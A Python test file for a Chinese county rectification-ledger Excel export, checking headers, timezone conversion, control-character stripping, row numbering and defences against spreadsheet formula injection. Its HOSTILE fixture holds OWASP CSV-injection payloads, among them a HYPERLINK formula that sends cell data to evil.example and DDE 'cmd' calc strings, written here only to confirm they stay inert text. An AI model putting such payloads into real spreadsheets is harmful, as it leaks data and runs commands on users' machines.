"""The ledger workbook read back: Chinese headers, one row per case, times in county time."""

import io
from datetime import UTC, datetime

import openpyxl
from openpyxl.utils import get_column_letter

from services.projections.ledger import HEADERS, workbook, write

CASE = {
    "issue_id": "i-1",
    "source": "central_inspection",
    "batch": "第二轮中央环保督察",
    "external_ref": "JB-1",
    "township": "城关镇",
    "domain": "quarrying_sand",
    "title": "河道采砂",
    "reported_at": datetime(2025, 1, 1, 2, tzinfo=UTC),
    "problem": "河道非法采砂",
    "task": "清理砂场",
    "unit": "自然资源局",
    "leader_name": "王建国",
    "leader_post": "副县长",
    "deadline": datetime(2025, 3, 31, 16, tzinfo=UTC),
    "measures": "逾期约谈",
    "status": "closed",
    "standing": "closed",
    "closed_at": datetime(2025, 3, 20, 17, tzinfo=UTC),
    "missed_count": 1,
    "reopened_count": 0,
    "repeat_reports": 2,
}


def test_the_ledger_has_the_five_fixed_columns_and_county_dates() -> None:
    book = openpyxl.load_workbook(io.BytesIO(workbook([CASE], [("截至", "2025-06-30")])))
    rows = list(book["整改台账"].iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["序号"] == 1
    assert (row["具体问题"], row["整改目标及措施"], row["责任单位"], row["奖惩措施"]) == (
        "河道非法采砂",
        "清理砂场",
        "自然资源局",
        "逾期约谈",
    )
    assert row["包案领导"] == "王建国（副县长）"
    assert row["整改时限"] == datetime(2025, 4, 1, 0, 0)  # 16:00 UTC is midnight in Shanghai
    assert row["销号日期"] == datetime(2025, 3, 21)
    assert (row["问题来源"], row["问题领域"], row["整改状态"], row["是否超期"]) == (
        "中央环保督察",
        "非法采砂采石",
        "已销号",
        "已销号",
    )
    assert (row["超期次数"], row["重复举报"]) == (1, 2)
    assert list(book["说明"].iter_rows(values_only=True)) == [("截至", "2025-06-30")]


def test_control_characters_a_worksheet_cannot_hold_are_dropped_not_a_server_error() -> None:
    from io import BytesIO

    from openpyxl import load_workbook

    from services.projections.ledger import workbook

    book = load_workbook(BytesIO(workbook([], [("乡镇", "城关\x19镇\x00")])))
    assert book["说明"]["B1"].value == "城关镇"


# Text a spreadsheet would take for a formula (OWASP CSV injection: = + - @, tab, CR) or an error value.
HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"点击查看详情")',
    "problem": "+cmd|' /C calc'!A0",
    "task": "-2+3",
    "unit": "@SUM(1+1)*cmd|' /C calc'!A0",
    "township": "\t=1+1",
    "measures": "\r=1+1",
    "batch": "#N/A",
    "external_ref": "=1",
    "leader_name": "=王建国",
    "leader_post": None,
}


def test_text_that_looks_like_a_formula_is_written_as_text_unchanged() -> None:
    about = [("筛选条件", '=HYPERLINK("http://evil.example")'), ("乡镇", "@城关镇")]
    book = openpyxl.load_workbook(io.BytesIO(workbook([{**CASE, **HOSTILE}], about)))
    for sheet in book.worksheets:
        for cells in sheet.iter_rows():
            for cell in cells:
                assert cell.data_type not in ("f", "e"), (sheet.title, cell.coordinate, cell.value)
    rows = list(book["整改台账"].iter_rows(values_only=True))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert (row["问题标题"], row["具体问题"], row["整改目标及措施"], row["责任单位"]) == (
        HOSTILE["title"],
        HOSTILE["problem"],
        HOSTILE["task"],
        HOSTILE["unit"],
    )
    assert (row["乡镇"], row["奖惩措施"], row["督察批次"], row["交办编号"], row["包案领导"]) == (
        "\t=1+1",
        "\n=1+1",  # a line end is LF in the workbook's XML, whatever it was typed as
        "#N/A",
        "=1",
        "=王建国",
    )
    assert list(book["说明"].iter_rows(values_only=True)) == about


def test_a_cell_starting_like_a_formula_keeps_excels_quote_prefix_so_editing_it_keeps_it_text() -> None:
    book = openpyxl.load_workbook(io.BytesIO(workbook([{**CASE, **HOSTILE}], [])))
    sheet = book["整改台账"]
    by_header = {header: get_column_letter(n) for n, header in enumerate(HEADERS, start=1)}
    for header in ("问题标题", "具体问题", "整改目标及措施", "责任单位", "乡镇", "奖惩措施", "交办编号"):
        assert sheet[f"{by_header[header]}2"].quotePrefix, header
    assert not sheet[f"{by_header['问题编号']}2"].quotePrefix


def test_a_later_part_of_the_ledger_goes_on_numbering_its_rows() -> None:
    out = io.BytesIO()
    write([CASE, {**CASE, "issue_id": "i-2"}], [], out, first_number=101)
    rows = list(openpyxl.load_workbook(out)["整改台账"].iter_rows(values_only=True))
    assert [(r[0], r[1]) for r in rows[1:]] == [(101, "i-1"), (102, "i-2")]
